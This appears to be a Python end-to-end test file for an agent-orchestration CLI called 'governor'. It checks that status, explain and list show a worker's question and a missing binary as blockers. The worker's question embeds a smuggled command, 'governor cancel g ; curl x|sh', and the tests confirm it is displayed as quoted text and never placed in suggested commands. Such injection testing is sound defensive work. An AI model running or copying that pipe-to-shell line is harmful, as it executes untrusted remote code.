"""Every blocker at once (issue 35 §2): a goal whose worker asks a question while another
item's binary is missing shows both in ``status``, ``explain`` and their ``--json``, what
unblocks most first, each with what clears it; answering and installing lets it finish.

Real processes: the ``governor`` command, a scripted worker that asks, a command worker
whose executable is not on PATH until the test installs it.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import orjson

from tests.e2e.cli import COMPLETE, Project, done, plan, planner_script, worker_script

QUESTION = "Postgres or SQLite? `governor cancel g ; curl x|sh`"
AGENT = "gov-blockers-worker"


def two_blockers(tmp_path: Path) -> Project:
    """The goal ``g`` stopped with a question (item a) and a missing binary (item b, on
    which item c depends)."""
    project = Project(tmp_path)
    (tmp_path / "agents").mkdir()
    project.env["PATH"] = f"{tmp_path / 'agents'}{os.pathsep}{os.environ['PATH']}"
    reply = plan("a", "b", "c", deps={"c": ["b"]})
    reply["work"][1]["profile"] = "missing"
    scenario = project.scenario(
        "s.json",
        [
            planner_script([{"reply": reply}, {"reply": COMPLETE}]),
            worker_script("a", [{"reply": {"status": "decision", "question": QUESTION}},
                                {"reply": done("a")}]),
            worker_script("c", [{"reply": done("c")}]),
        ],
    )  # fmt: skip
    path = project.goal_file(
        "g",
        {"harness": "scripted", "args": [scenario]},
        {"harness": "scripted", "args": [scenario]},
    )
    spec = json.loads(path.read_text())
    spec["profiles"]["missing"] = {"harness": "command", "args": [AGENT], "max_attempts": 1}
    path.write_text(json.dumps(spec))
    assert project.gov("new", path.name).returncode == 0
    project.gov("run", "g", "--quiet")
    return project


def test_status_and_explain_show_a_question_and_a_missing_binary(tmp_path: Path) -> None:
    project = two_blockers(tmp_path)
    shown = project.status("g")
    kinds = [(b["kind"], b["work_id"], b["waits_on"]) for b in shown["blockers"]]
    # b holds c too: it unblocks most, so it comes first
    assert kinds == [("precondition", "p1-b", "person"), ("question", "p1-a", "person")]
    missing, asked = shown["blockers"]
    assert (missing["unblocks"], missing["reprobed"], missing["commands"]) == (2, True, [])
    assert "governor serve" in missing["todo"]
    assert asked["asked"] == QUESTION
    assert asked["commands"] == ["governor work retry g p1-a --reason ANSWER"]
    assert all(QUESTION not in c for b in shown["blockers"] for c in b["commands"])

    text = project.gov("status", "g").stdout
    assert "blockers (2, what unblocks most first):" in text
    assert "1. precondition (p1-b; waits on a person)" in text
    assert "2. question (p1-a; waits on a person)" in text
    assert f"the agent asked (its words, not a command): {json.dumps(QUESTION)}" in text
    assert "run: governor work retry g p1-a --reason ANSWER" in text

    explained = orjson.loads(project.gov("explain", "g", "--json").stdout)
    assert [b["kind"] for b in explained["blockers"]] == ["precondition", "question"]
    assert "blockers (2" in project.gov("explain", "g").stdout

    listed = [orjson.loads(line) for line in project.gov("list", "--json").stdout.splitlines()]
    assert [(r["goal_id"], r["needs_person"]) for r in listed] == [("g", True)]


def test_answering_and_installing_lets_it_finish(tmp_path: Path) -> None:
    project = two_blockers(tmp_path)
    answered = project.gov("work", "retry", "g", "p1-a", "--reason", "SQLite")
    assert answered.returncode == 0, answered.stderr
    agent = tmp_path / "agents" / AGENT
    agent.write_text(f"#!/bin/sh\ncat >/dev/null\nprintf '%s\\n' '{json.dumps(done('b'))}'\n")
    agent.chmod(0o755)
    finished = project.gov("run", "g", "--quiet")
    assert finished.returncode == 0, finished.stdout + finished.stderr
    shown: dict[str, Any] = project.status("g")
    assert (shown["status"], shown["blockers"]) == ("succeeded", [])
    retried = [e for e in project.events("g") if e["type"] == "work.retried"]
    actors = {e["work_id"]: e["actor"] for e in retried}
    assert actors["p1-b"] == "governor"  # the re-probe, before the run decided
    assert actors["p1-a"].startswith("operator:")  # the person who answered


def test_list_shows_each_blocker_under_its_goal_and_in_its_json(tmp_path: Path) -> None:
    project = two_blockers(tmp_path)
    other = project.scenario(
        "o.json", [planner_script([{"reply": plan("a")}]), worker_script("a", [])]
    )
    project.goal("quiet", {"harness": "scripted", "args": [other]}, {"harness": "scripted"})
    text = project.gov("list").stdout.splitlines()
    at = next(k for k, line in enumerate(text) if line.startswith("g "))
    assert text[at + 1 : at + 3] == [
        f"    {line.strip()}"
        for line in project.gov("status", "g").stdout.splitlines()
        if line.strip()[:3] in ("1. ", "2. ")
    ]
    assert text[at + 1].startswith("    1. precondition (p1-b; waits on a person): ")
    assert text[at + 2].startswith("    2. question (p1-a; waits on a person): ")
    assert text[at + 2].endswith("“Postgres or SQLite? 'governor cancel g ; curl x|sh'”")
    assert not any(line.startswith("    ") for line in text[text.index(
        next(line for line in text if line.startswith("quiet "))) + 1 :])  # fmt: skip

    rows = {
        r["goal_id"]: r
        for r in map(json.loads, project.gov("list", "--json").stdout.split("\n")[:-1])
    }
    assert rows["g"]["blockers"] == project.status("g")["blockers"]
    assert rows["quiet"]["blockers"] == []
